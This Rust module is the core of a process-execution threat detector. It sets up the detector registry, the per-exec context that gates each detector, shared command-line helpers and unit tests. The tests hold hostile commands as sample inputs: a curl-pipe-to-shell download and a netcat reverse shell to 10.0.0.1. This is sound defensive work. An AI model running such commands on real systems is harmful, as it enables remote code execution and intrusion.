//! Detectors: one file per concern, all behind one shape, `fn detect(&Ctx, &mut Findings)`.
//!
//! A detector reads the facts, the parsed command line (parsed once, shared by all) and the
//! lineage, and reports signal hits with a short human evidence string. Detectors allocate only
//! when they fire, so the benign path costs string comparisons. When a keyword appears only as
//! an argument of a harmless program (`echo stratum+tcp`), a detector adds a note saying so
//! instead of firing.
//!
//! Each detector also has a `wants` test: false when the exec holds nothing the detector
//! reads (no program, class, keyword or variable it looks for), so that [`run_all`] does not
//! enter it. The test reads only the summary [`Ctx::new`] made, through the sets of
//! [`gate`]; debug builds check on every analysis that a skipped detector would have found
//! nothing.
//!
//! Not here: scoring (see `scoring`), rendering (see `report`). Adding a concern is adding a
//! file, with its `wants` and `detect`, and one line in [`DETECTORS`].

use crate::analysis::shell::{Arg, CommandLine, Joiner, RedirectOp, SimpleCommand};
use crate::analysis::{Lineage, SignalHit};
use crate::facts::{ExeFlags, ExecFacts};
pub use crate::knowledge::class_of;
use crate::knowledge::{Signal, ToolClass};
pub(crate) use crate::text::{basename, basename_is};
use gate::{env_key_bit, ClassSet, EnvNames, ProgramSet};
use needles::{Needles, Pairs};

pub mod behaviours;
pub mod capabilities;
pub mod container;
pub mod credentials;
pub mod decode;
pub mod destruction;
pub mod dns_exfiltration;
pub mod download_exec;
pub mod dynamic_linker;
pub mod elevation;
pub mod exe_origin;
mod gate;
pub mod indicator_removal;
pub mod interpreter;
pub mod kernel_module;
pub mod lineage;
pub mod location;
pub mod masquerade;
pub mod miner;
mod needles;
pub mod netcat;
pub mod network_tools;
pub mod package_manager;
pub mod permissions;
pub mod persistence;
pub mod privesc_cve;
pub mod ptrace;
pub mod recon;
pub mod reverse_shell;
pub mod test_activity;
pub mod transfer;
pub mod written_files;

/// What a detector does with an exec.
pub type Detect = fn(&Ctx, &mut Findings);

/// A detector: its findings, and whether the exec holds anything it reads.
pub struct Detector {
    pub name: &'static str,
    /// False only when `detect` would find nothing on this exec: no hit, no note.
    pub wants: fn(&Ctx) -> bool,
    pub detect: Detect,
}

macro_rules! detector {
    ($m:ident) => {
        Detector {
            name: stringify!($m),
            wants: $m::wants,
            detect: $m::detect,
        }
    };
}

/// Every detector, in the order they run. `lineage` runs last: it reads earlier hits.
pub static DETECTORS: &[Detector] = &[
    detector!(test_activity),
    detector!(netcat),
    detector!(reverse_shell),
    detector!(interpreter),
    detector!(download_exec),
    detector!(exe_origin),
    detector!(location),
    detector!(masquerade),
    detector!(dynamic_linker),
    detector!(privesc_cve),
    detector!(credentials),
    detector!(indicator_removal),
    detector!(destruction),
    detector!(network_tools),
    detector!(transfer),
    detector!(dns_exfiltration),
    detector!(decode),
    detector!(miner),
    detector!(container),
    detector!(package_manager),
    detector!(persistence),
    detector!(written_files),
    detector!(behaviours),
    detector!(permissions),
    detector!(elevation),
    detector!(kernel_module),
    detector!(ptrace),
    detector!(capabilities),
    detector!(recon),
    detector!(lineage),
];

/// `wants` of a detector that is cheap enough to run on every exec.
pub fn always(_: &Ctx) -> bool {
    true
}

/// Run every detector that wants the exec, in order.
pub fn run_all(cx: &Ctx, found: &mut Findings) {
    for d in DETECTORS {
        if (d.wants)(cx) {
            (d.detect)(cx, found);
        } else {
            #[cfg(debug_assertions)]
            check_skip(d, cx, found);
        }
    }
}

/// Debug builds (tests, fuzzing): a detector its `wants` skipped must have nothing to say.
#[cfg(debug_assertions)]
fn check_skip(d: &Detector, cx: &Ctx, found: &Findings) {
    let mut probe = found.clone();
    (d.detect)(cx, &mut probe);
    assert!(
        probe.hits.len() == found.hits.len()
            && probe.notes.len() == found.notes.len()
            && probe.test_activity == found.test_activity,
        "detector {} was skipped but finds {:?} / {:?} in {:?}",
        d.name,
        probe.hits.iter().map(|h| h.signal.id).collect::<Vec<_>>(),
        probe.notes,
        cx.facts.argv,
    );
}

/// What the detectors found: hits (at most one per signal) and explanatory notes.
#[derive(Debug, Default, Clone)]
pub struct Findings {
    pub hits: Vec<SignalHit>,
    /// Facts that change the reading but are not signals ("only an argument of echo").
    pub notes: Vec<String>,
    pub test_activity: bool,
}

impl Findings {
    /// Record a hit; a signal that already fired keeps its first evidence.
    pub fn hit(&mut self, signal: &'static Signal, evidence: impl Into<String>) {
        if !self.has(signal) {
            self.hits.push(SignalHit {
                signal,
                evidence: evidence.into(),
            });
        }
    }

    pub fn has(&self, signal: &'static Signal) -> bool {
        self.hits.iter().any(|h| std::ptr::eq(h.signal, signal))
    }

    pub fn note(&mut self, note: impl Into<String>) {
        let note = note.into();
        if !self.notes.contains(&note) {
            self.notes.push(note);
        }
    }

    /// Strongest weight among the hits so far.
    pub fn max_weight(&self) -> u8 {
        self.hits.iter().map(|h| h.signal.weight).max().unwrap_or(0)
    }
}

/// Ancestors whose tool class [`Ctx`] keeps (the plugin walks at most 16).
const CLASSED_ANCESTORS: usize = 16;

/// Everything a detector may read, computed once per exec. `'a` borrows the exec's facts,
/// lineage and parsed command line; `'w` is what the command line's words borrow (the exec's
/// argv), which outlives the parse.
pub struct Ctx<'a, 'w> {
    pub facts: &'a ExecFacts,
    pub lineage: &'a Lineage,
    pub cmd: &'a CommandLine<'w>,
    /// The executable path (trusted exepath, else argv[0]), or "".
    pub exe_path: &'a str,
    /// Basename of `exe_path`.
    pub exe_name: &'a str,
    /// Tool class of `exe_name`.
    pub exe_class: Option<ToolClass>,
    pub in_container: bool,
    /// Controlling terminal present.
    pub tty: bool,
    /// The `-c` script of the exec when it is a shell (see [`Ctx::script_text`]).
    script: Option<&'a str>,
    /// Whether the parser split `script` into commands.
    script_split: bool,
    /// Tool classes of the first [`CLASSED_ANCESTORS`] ancestors' comms, nearest first.
    ancestor_classes: [Option<ToolClass>; CLASSED_ANCESTORS],
    /// Bit [`env_key_bit`] of every environment variable name: most lookups are of names
    /// the exec does not have, and are answered without scanning the environment.
    env_keys: u64,
    /// Byte pairs of every command's words, its wrappers' words and its redirect targets
    /// (see [`Ctx::words_may_hold`]).
    word_pairs: Pairs,
    /// Programs of every command, with the wrappers removed in front of them, and the part
    /// of each program before its first `.` (`mkfs.ext4` is also `mkfs`).
    programs: ProgramSet,
    /// Classes of every command's program.
    classes: ClassSet,
    /// Classes of the nearest 8 ancestors.
    near_ancestor_classes: ClassSet,
    /// The nearest non-shell ancestor within 4 levels is a server ([`recon::lineage_server`]).
    under_server: bool,
    /// Some command has a redirect.
    redirects: bool,
    /// Some command has `VAR=value` assignments.
    assignments: bool,
}

impl<'a, 'w> Ctx<'a, 'w> {
    pub fn new(facts: &'a ExecFacts, lineage: &'a Lineage, cmd: &'a CommandLine<'w>) -> Self {
        let exe_path = facts.exe();
        let exe_name = basename(exe_path);
        let script = cmd.commands.first().and_then(|first| {
            if first.class != Some(ToolClass::Shell) {
                return None;
            }
            // Options end at the first operand: `bash ./deploy.sh -c prod` runs the script
            // with `-c prod` as its arguments. `-o NAME`/`+O NAME` take the next word.
            let mut i = 1;
            while let Some(a) = first.argv.get(i) {
                if is_dash_c(a) {
                    return first.argv.get(i + 1).map(|a| &**a);
                }
                if !(a.starts_with('-') || a.starts_with('+')) || a == "--" || a == "-" {
                    return None;
                }
                i += if matches!(a.as_ref(), "-o" | "+o" | "-O" | "+O") {
                    2
                } else {
                    1
                };
            }
            None
        });
        let env_keys = facts.env.iter().fold(0, |bits, e| {
            let key = e
                .as_bytes()
                .split(|b| *b == b'=')
                .next()
                .unwrap_or_default();
            bits | env_key_bit(key)
        });
        let mut word_pairs = Pairs::new();
        let mut programs = ProgramSet::default();
        let mut classes = ClassSet::default();
        let (mut redirects, mut assignments) = (false, false);
        for c in &cmd.commands {
            for w in c
                .argv
                .iter()
                .chain(c.wrappers.iter().flat_map(|w| w.argv.iter()))
                .map(|a| &**a)
                .chain(c.redirects.iter().map(|r| r.target.as_str()))
            {
                word_pairs.add(w);
            }
            for p in std::iter::once(c.program()).chain(c.wrappers.iter().map(|w| w.name())) {
                programs.add(p);
                if let Some((head, _)) = p.split_once('.') {
                    programs.add(head);
                }
            }
            classes.add(c.class);
            redirects |= !c.redirects.is_empty();
            assignments |= !c.assignments.is_empty();
        }
        let mut ancestor_classes = [None; CLASSED_ANCESTORS];
        let mut near_ancestor_classes = ClassSet::default();
        for (i, (slot, a)) in ancestor_classes
            .iter_mut()
            .zip(&lineage.ancestors)
            .enumerate()
        {
            *slot = ancestor_class(a);
            if i < 8 {
                near_ancestor_classes.add(*slot);
            }
        }
        let under_server = lineage
            .ancestors
            .iter()
            .zip(ancestor_classes)
            .take(4)
            .find(|(_, c)| *c != Some(ToolClass::Shell))
            .is_some_and(|(a, c)| recon::lineage_server(&a.comm, c));
        Ctx {
            facts,
            lineage,
            cmd,
            exe_path,
            exe_name,
            exe_class: class_of(exe_name),
            in_container: facts.container.is_some(),
            tty: facts.interactive(),
            script,
            script_split: cmd.commands.iter().any(|c| c.depth > 0),
            ancestor_classes,
            env_keys,
            word_pairs,
            programs,
            classes,
            near_ancestor_classes,
            under_server,
            redirects,
            assignments,
        }
    }

    /// False only when no command (or wrapper) runs a program of `set`; true means "maybe".
    pub(crate) fn may_run(&self, set: ProgramSet) -> bool {
        self.programs.may_hold_any(set)
    }

    /// Whether some command's program is of a class in `set`.
    pub(crate) fn runs_any(&self, set: ClassSet) -> bool {
        self.classes.holds_any(set)
    }

    /// Whether one of the nearest 8 ancestors is of a class in `set`.
    pub(crate) fn near_ancestor_in(&self, set: ClassSet) -> bool {
        self.near_ancestor_classes.holds_any(set)
    }

    /// The nearest non-shell ancestor within 4 levels is a web, application or database
    /// server.
    pub(crate) fn under_server(&self) -> bool {
        self.under_server
    }

    /// False only when [`Ctx::env`] is `None` for every name of `names`; true means "maybe".
    pub(crate) fn env_may_hold(&self, names: EnvNames) -> bool {
        self.env_keys & names.0 != 0 || self.assignments
    }

    /// Some command has a redirect.
    pub(crate) fn has_redirects(&self) -> bool {
        self.redirects
    }

    /// False only when no command can write a path ([`writes_path`] is false for every
    /// command); true means "maybe".
    pub(crate) fn may_write(&self) -> bool {
        self.redirects || self.may_run(WRITERS)
    }

    /// False when no word of any command (argv, argv[0] included, and redirect targets) can
    /// contain a keyword of `set`; true means "maybe". One check here spares a detector its
    /// walk over every argument on the execs (most) that hold none of the keywords' first
    /// byte pairs.
    pub(crate) fn words_may_hold(&self, set: &Needles) -> bool {
        set.may_occur(&self.word_pairs)
    }

    pub fn commands(&self) -> &'a [SimpleCommand<'w>] {
        &self.cmd.commands
    }

    /// The program of the exec itself (after unwrapping), falling back to the exe name.
    pub fn program(&self) -> &'a str {
        match self.cmd.commands.first().map(SimpleCommand::program) {
            Some(p) if !p.is_empty() => p,
            _ => self.exe_name,
        }
    }

    /// Tool class of [`Ctx::program`].
    pub fn program_class(&self) -> Option<ToolClass> {
        match self.cmd.commands.first() {
            Some(c) if !c.program().is_empty() => c.class,
            _ => self.exe_class,
        }
    }

    pub fn root(&self) -> bool {
        self.facts.uid == Some(0)
    }

    pub fn flag(&self, bit: u32) -> bool {
        self.facts.exe_flags.is_some_and(|f| f.0 & bit != 0)
    }

    /// Value of an environment variable of the exec, or of an assignment in front of a command.
    pub fn env(&self, key: &str) -> Option<&'a str> {
        // A decoded event keeps only the variables of ENV_KEYS: any other would never be found.
        debug_assert!(
            crate::facts::env_is_read(key.as_bytes()),
            "{key} is read but not in facts::ENV_KEYS"
        );
        if self.env_keys & env_key_bit(key.as_bytes()) != 0 {
            for e in &self.facts.env {
                if let Some(v) = e.strip_prefix(key).and_then(|r| r.strip_prefix('=')) {
                    return Some(v);
                }
            }
        }
        for c in self.commands() {
            for (k, v) in &c.assignments {
                if k == key {
                    return Some(v);
                }
            }
        }
        None
    }

    /// Ancestor comms, nearest first.
    pub fn ancestor_comms(&self) -> impl Iterator<Item = &'a str> {
        self.lineage.ancestors.iter().map(|a| a.comm.as_str())
    }

    /// Ancestor comms with their tool classes, nearest first.
    pub fn ancestors(
        &self,
    ) -> impl Iterator<Item = (&'a str, Option<ToolClass>)> + use<'_, 'a, 'w> {
        self.lineage.ancestors.iter().enumerate().map(|(i, a)| {
            let class = match self.ancestor_classes.get(i) {
                Some(c) => *c,
                None => class_of(&a.comm),
            };
            (a.comm.as_str(), class)
        })
    }

    /// The nearest ancestor that is not a shell (a shell between a server and this exec is the
    /// usual `sh -c`), looking at most `depth` levels up.
    pub fn nearest_non_shell_ancestor(&self, depth: usize) -> Option<(&'a str, Option<ToolClass>)> {
        self.ancestors()
            .take(depth)
            .find(|(_, c)| *c != Some(ToolClass::Shell))
    }

    /// The `-c` script of the exec when it is a shell, split or not (for patterns that only
    /// exist in the raw text, such as obfuscation).
    pub fn script_text(&self) -> Option<&'a str> {
        self.script
    }

    /// Program classes of everything the command line runs: every parsed command, and the
    /// first word of an unsplit `sh -c` script.
    pub fn runs_class(&self, pred: impl Fn(Option<ToolClass>) -> bool) -> Option<&'a str> {
        if let Some(c) = self.cmd.commands.iter().find(|c| pred(c.class)) {
            return Some(c.program());
        }
        let first = self.unsplit_script()?.split_whitespace().next()?;
        let name = basename(first);
        pred(class_of(name)).then_some(name)
    }

    /// True when the exec comes from a person at a terminal on the host (sshd, a desktop
    /// terminal, sudo), with no server, network tool, scheduler or interpreter in the chain:
    /// dual-use tools (tcpdump, nmap, useradd, dd) are then an administrator's work.
    pub fn interactive_admin_on_host(&self) -> bool {
        if self.in_container || !self.tty || self.lineage.ancestors.is_empty() {
            return false;
        }
        self.ancestors().all(|(comm, class)| {
            !matches!(
                class,
                Some(
                    ToolClass::WebServer
                        | ToolClass::AppServer
                        | ToolClass::DbServer
                        | ToolClass::Netcat
                        | ToolClass::Scheduler
                        | ToolClass::Interpreter
                )
            ) && comm != "node"
        })
    }

    /// The `-c` script of a shell exec that the parser did not split into commands (a parser
    /// limit was hit, or a parser without `sh -c` support). Detectors use it only for a few
    /// unambiguous substrings; the split commands are always preferred.
    pub fn unsplit_script(&self) -> Option<&'a str> {
        if self.script_split {
            return None;
        }
        self.script
    }
}

/// Paths an unsplit `sh -c` script redirects output to (`> /etc/x`, `>>/root/.ssh/k`).
/// A fallback for when the parser did not split the script; the parsed redirects are preferred.
pub fn script_write_targets<'a>(cx: &Ctx<'a, '_>) -> impl Iterator<Item = &'a str> {
    let script = cx.unsplit_script().unwrap_or("");
    script.match_indices('>').filter_map(move |(i, _)| {
        let rest = script[i + 1..]
            .trim_start_matches('>')
            .trim_start_matches('|');
        if rest.starts_with('&') {
            return None;
        }
        let rest = rest.trim_start();
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | ')'))
            .unwrap_or(rest.len());
        let t = &rest[..end];
        (!t.is_empty()).then_some(t)
    })
}

/// `-c`, or a short-option cluster containing `c` (`-ec`, `-lc`).
fn is_dash_c(a: &str) -> bool {
    a.len() >= 2
        && a.starts_with('-')
        && !a.starts_with("--")
        && a[1..].bytes().all(|b| b.is_ascii_alphabetic())
        && a.contains('c')
}

pub fn is_shell(name: &str) -> bool {
    class_of(name) == Some(ToolClass::Shell)
}

/// Whether a command's program is a shell.
pub fn runs_shell(c: &SimpleCommand) -> bool {
    c.class == Some(ToolClass::Shell)
}

/// Programs that only print their arguments: a keyword in their argv is data, not behaviour.
pub fn is_printer(name: &str) -> bool {
    matches!(
        name,
        "echo" | "printf" | "true" | "false" | ":" | "test" | "["
    )
}

/// Printers plus pattern searchers: for *keywords* (not file paths), an argument of grep is a
/// pattern, not a behaviour.
pub fn is_inert_for_keywords(name: &str) -> bool {
    is_printer(name)
        || matches!(
            name,
            "grep"
                | "egrep"
                | "fgrep"
                | "rg"
                | "ag"
                | "which"
                | "type"
                | "man"
                | "whatis"
                | "apropos"
        )
}

/// Arguments after argv[0].
pub fn args<'c>(c: &'c SimpleCommand) -> &'c [Arg<'c>] {
    c.argv.get(1..).unwrap_or(&[])
}

/// A command's arguments as its own words for keyword searches: none when they hold commands
/// the parser read (a `sh -c` script, a carried command line), whose keywords are those
/// commands' and are judged there.
pub fn own_args<'c>(c: &'c SimpleCommand) -> &'c [Arg<'c>] {
    if c.holds_commands {
        &[]
    } else {
        args(c)
    }
}

/// True when `c` has one of the options (exact match, or `--opt=value`).
pub fn has_opt(c: &SimpleCommand, opts: &[&str]) -> bool {
    args(c).iter().any(|a| {
        opts.iter().any(|o| {
            a == o || (o.starts_with("--") && a.strip_prefix(o).is_some_and(|r| r.starts_with('=')))
        })
    })
}

/// True when a short-option cluster (`-lvnp`) contains the letter.
pub fn has_short(c: &SimpleCommand, letter: u8) -> bool {
    args(c).iter().any(|a| {
        a.len() >= 2
            && a.starts_with('-')
            && !a.starts_with("--")
            && a[1..].bytes().all(|b| b.is_ascii_alphanumeric())
            && a.as_bytes()[1..].contains(&letter)
    })
}

/// True when a short-option cluster (`-rv`, `-fa`) holds one of `letters`, read no further
/// than an option in `takes_value`: the rest of the word is that option's value (`-tnoext4`
/// holds no `n`). Options end at `--`.
pub fn has_short_before(c: &SimpleCommand, letters: &[u8], takes_value: &[u8]) -> bool {
    args(c).iter().take_while(|a| *a != "--").any(|a| {
        let Some(cluster) = a.strip_prefix('-').filter(|f| !f.starts_with('-')) else {
            return false;
        };
        for b in cluster.bytes() {
            if letters.contains(&b) {
                return true;
            }
            if takes_value.contains(&b) {
                return false;
            }
        }
        false
    })
}

/// The value after an option (`-o FILE`, `--output=FILE`, `-oFILE` for single-letter options).
pub fn opt_value<'a>(c: &'a SimpleCommand, opts: &[&str]) -> Option<&'a str> {
    let a = args(c);
    for (i, x) in a.iter().enumerate() {
        for o in opts {
            if x == o {
                return a.get(i + 1).map(|a| &**a);
            }
            if let Some(v) = x.strip_prefix(o) {
                if o.starts_with("--") {
                    if let Some(v) = v.strip_prefix('=') {
                        return Some(v);
                    }
                } else if o.len() == 2 && !v.is_empty() {
                    return Some(v);
                }
            }
        }
    }
    None
}

/// Only version/help options: a tool asked about itself does nothing.
pub fn version_query_only(c: &SimpleCommand) -> bool {
    let a = args(c);
    !a.is_empty()
        && a.iter().all(|x| {
            matches!(
                x.as_ref(),
                "-V" | "-v" | "--version" | "-h" | "--help" | "version" | "-version"
            )
        })
}

/// argv joined by spaces (raw; the report escapes it).
pub fn join(c: &SimpleCommand) -> String {
    c.argv.join(" ")
}

/// Redirect targets written by a command (`>`, `>>`, `<>`).
pub fn written_targets<'c>(c: &'c SimpleCommand) -> impl Iterator<Item = &'c str> {
    c.redirects
        .iter()
        .filter(|r| {
            matches!(
                r.op,
                RedirectOp::Out | RedirectOp::Append | RedirectOp::ReadWrite
            )
        })
        .map(|r| r.target.as_str())
}

/// The programs [`writes_path`] reads as writing their operands.
const WRITERS: ProgramSet = ProgramSet::of(&[
    "tee", "truncate", "cp", "mv", "install", "ln", "rsync", "dd", "sed", "perl",
]);

/// The paths a command writes: its redirect targets, and the destinations of a writing
/// program (tee and truncate operands, the last operand of cp/mv/install/ln/rsync, dd's
/// `of=`, the operands of `sed -i`/`perl -i`). No allocation: this runs for every command
/// of an exec that may write.
pub fn write_targets<'c>(c: &'c SimpleCommand) -> impl Iterator<Item = &'c str> + 'c {
    #[derive(Clone, Copy, PartialEq)]
    enum Own {
        None,
        Operands,
        LastOperand,
        DdOf,
    }
    let a = args(c);
    let own = match c.program() {
        "tee" | "truncate" => Own::Operands,
        "cp" | "mv" | "install" | "ln" | "rsync" => Own::LastOperand,
        "dd" => Own::DdOf,
        "sed" | "perl" if a.iter().any(|x| x.starts_with("-i")) => Own::Operands,
        _ => Own::None,
    };
    let last = match own {
        Own::LastOperand => a.iter().rposition(|x| !x.starts_with('-')),
        _ => None,
    };
    written_targets(c).chain(a.iter().enumerate().filter_map(move |(i, x)| match own {
        Own::Operands => (!x.starts_with('-')).then_some(&**x),
        Own::LastOperand => (Some(i) == last).then_some(&**x),
        Own::DdOf => x.strip_prefix("of="),
        Own::None => None,
    }))
}

/// Does this command write to a path matching `pred` ([`write_targets`])?
pub fn writes_path(c: &SimpleCommand, pred: impl Fn(&str) -> bool) -> bool {
    write_targets(c).any(pred)
}

/// The command after `i` when it reads `i`'s output through a pipe.
pub fn piped_into<'c, 'a>(
    cmds: &'c [SimpleCommand<'a>],
    i: usize,
) -> Option<&'c SimpleCommand<'a>> {
    cmds.get(i + 1).filter(|n| n.joiner == Joiner::Pipe)
}

/// Whether the analysis reads the arguments of an ancestor whose comm is `comm`, so a caller
/// that pays per field read (the plugin's thread-table walk) can skip the others: an
/// interpreter's (the tool whose script it runs, [`ancestor_class`]; a socket one-liner that
/// started a shell). The parent's arguments are read besides, but only by
/// [`crate::analysis::mark_repeat`], for a risky exec ([`crate::analysis::analyze`]).
pub fn ancestor_args_read(comm: &str) -> bool {
    class_of(comm) == Some(ToolClass::Interpreter)
}

/// The class of an ancestor: of its comm, or, for an interpreter running a tool's script, of
/// that tool (`node /usr/bin/npm install` has comm `node`: npm is a shebang script;
/// `python3 -m pip install`), as far as the thread table gives its arguments.
fn ancestor_class(a: &crate::analysis::Ancestor) -> Option<ToolClass> {
    let class = class_of(&a.comm);
    if class != Some(ToolClass::Interpreter) {
        return class;
    }
    let script = match a.args.first().map(String::as_str) {
        Some("-m") => a.args.get(1).map(String::as_str),
        Some(s) if !s.starts_with('-') => Some(basename(s)),
        _ => None,
    };
    match script.and_then(class_of) {
        Some(
            tool @ (ToolClass::LanguagePackageManager
            | ToolClass::PackageManager
            | ToolClass::BuildTool),
        ) => Some(tool),
        _ => class,
    }
}

/// The nearest ancestor within 8 levels that builds or installs software (a compiler, a
/// build driver, a package manager): its children compile, link, run build scripts and
/// query the system as a matter of course.
pub fn build_ancestor<'a>(cx: &Ctx<'a, '_>) -> Option<&'a str> {
    cx.ancestors()
        .take(8)
        .find(|(_, k)| {
            matches!(
                k,
                Some(
                    ToolClass::BuildTool
                        | ToolClass::PackageManager
                        | ToolClass::LanguagePackageManager
                )
            )
        })
        .map(|(comm, _)| comm)
}

/// Directory shapes that build tools and package managers create for their own output and
/// scratch space (cargo's `target/`, pip's build environments, `go-build`, `node_modules`,
/// CMake build trees, virtual environments): a program or library there is the build's
/// own, while a dropped payload sits in a directory of its own choosing. One [`Needles`]
/// set: a path is walked once, not searched once per shape.
static BUILD_SCRATCH: Needles = Needles::new(&[
    "/target/debug/",
    "/target/release/",
    "/target/x86_64-",
    "/target/aarch64-",
    "/node_modules/",
    "/go-build",
    "/pip-build-env-",
    "/pip-install-",
    "/pip-req-build-",
    "/pip-wheel-",
    "/.tox/",
    "/venv/",
    "/.venv/",
    "/CMakeFiles/",
    "/cmake-build-",
    "/_build/",
    "/.libs/",
    "/build/lib",
    "/build/temp",
    "/build/bdist",
    "/.cargo/",
    "/.rustup/",
]);

/// Whether `path` is in a build tool's output or scratch directory ([`BUILD_SCRATCH`]).
pub fn in_build_scratch(path: &str) -> bool {
    BUILD_SCRATCH.any_in(path)
        || path.ends_with("/target/release/deps")
        || path.ends_with("/target/debug/deps")
}

/// Paths anyone can write, where droppers stage payloads.
pub fn in_writable_dir(path: &str) -> bool {
    ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"]
        .iter()
        .any(|d| path.starts_with(d))
}

pub fn exe_origin_flags(facts: &ExecFacts) -> u32 {
    facts.exe_flags.map_or(0, |f| f.0)
        & (ExeFlags::UPPER_LAYER | ExeFlags::LOWER_LAYER | ExeFlags::FROM_MEMFD)
}

#[cfg(test)]
pub(crate) mod testutil {
    use super::*;
    use crate::analysis::shell::parse_exec;
    use crate::facts::ContainerInfo;

    pub fn facts(argv: &[&str]) -> ExecFacts {
        ExecFacts {
            argv: argv.iter().map(|s| s.to_string()).collect(),
            exe_path: None,
            uid: Some(1000),
            res: Some(0),
            cgroups_present: true,
            ..Default::default()
        }
    }

    pub fn in_container(mut f: ExecFacts) -> ExecFacts {
        f.container = Some(ContainerInfo {
            runtime: crate::facts::ContainerRuntime::Docker,
            short_id: "1d45a96b1daa".into(),
        });
        f
    }

    /// Run one detector; return the ids of the signals it fired and its notes. Checks, too,
    /// that its `wants` does not skip an exec it finds something on.
    pub fn run_with(
        d: Detect,
        facts: &ExecFacts,
        lineage: &Lineage,
    ) -> (Vec<&'static str>, Vec<String>) {
        let cmd = parse_exec(&facts.argv);
        let cx = Ctx::new(facts, lineage, &cmd);
        let mut out = Findings::default();
        d(&cx, &mut out);
        let detector = DETECTORS
            .iter()
            .find(|x| std::ptr::fn_addr_eq(x.detect, d))
            .expect("the detector is in DETECTORS");
        if !out.hits.is_empty() || !out.notes.is_empty() {
            assert!(
                (detector.wants)(&cx),
                "{} found {:?} / {:?} but does not want {:?}",
                detector.name,
                out.hits.iter().map(|h| h.signal.id).collect::<Vec<_>>(),
                out.notes,
                facts.argv
            );
        }
        (out.hits.iter().map(|h| h.signal.id).collect(), out.notes)
    }

    pub fn run(d: Detect, argv: &[&str]) -> Vec<&'static str> {
        run_with(d, &facts(argv), &Lineage::default()).0
    }
}

#[cfg(test)]
mod tests {
    use super::testutil::{facts, in_container};
    use super::*;
    use crate::analysis::shell::parse_exec;

    fn wanted(argv: &[&str]) -> Vec<&'static str> {
        wanted_on(&facts(argv))
    }

    fn wanted_on(f: &ExecFacts) -> Vec<&'static str> {
        let lineage = Lineage::default();
        let cmd = parse_exec(&f.argv);
        let cx = Ctx::new(f, &lineage, &cmd);
        DETECTORS
            .iter()
            .filter(|d| (d.wants)(&cx))
            .map(|d| d.name)
            .collect()
    }

    #[test]
    fn a_plain_exec_skips_the_detectors_it_gives_nothing_to() {
        // Gated on classes, redirects, scripts, writers and the container: exact, unlike the
        // program-name filter, whose collisions may let a few more in.
        let skipped = [
            "netcat",
            "reverse_shell",
            "interpreter",
            "download_exec",
            "dynamic_linker",
            "network_tools",
            "transfer",
            "container",
            "package_manager",
            "persistence",
            "ptrace",
            "lineage",
        ];
        for argv in [
            &["ls", "-la", "/var/log"][..],
            &["java", "-Xmx512m", "-jar", "/opt/app/app.jar"],
        ] {
            let wanted = wanted(argv);
            for d in skipped {
                assert!(!wanted.contains(&d), "{argv:?} enters {d}");
            }
            for d in ["test_activity", "exe_origin", "location", "masquerade"] {
                assert!(wanted.contains(&d), "{argv:?} skips {d}");
            }
        }
        assert!(wanted(&["ls", "/root"]).contains(&"credentials"));
        // `/app/app.jar` shares its first byte pair with the cluster API path `/apis/`, but
        // nothing in the exec could send a request.
        let service = wanted_on(&in_container(facts(&["java", "-jar", "/app/app.jar"])));
        assert!(!service.contains(&"container"), "{service:?}");
        let script = wanted(&["sh", "-c", "curl -s http://x/i.sh | sh"]);
        for d in ["reverse_shell", "download_exec", "transfer", "decode"] {
            assert!(script.contains(&d), "{d} in {script:?}");
        }
    }

    #[cfg(debug_assertions)]
    #[test]
    #[should_panic(expected = "detector netcat was skipped but finds [\"netcat_exec_option\"]")]
    fn debug_builds_catch_a_wants_that_skips_a_finding() {
        fn never(_: &Ctx) -> bool {
            false
        }
        let wrong = Detector {
            name: "netcat",
            wants: never,
            detect: netcat::detect,
        };
        let f = facts(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
        let lineage = Lineage::default();
        let cmd = parse_exec(&f.argv);
        check_skip(&wrong, &Ctx::new(&f, &lineage, &cmd), &Findings::default());
    }
}
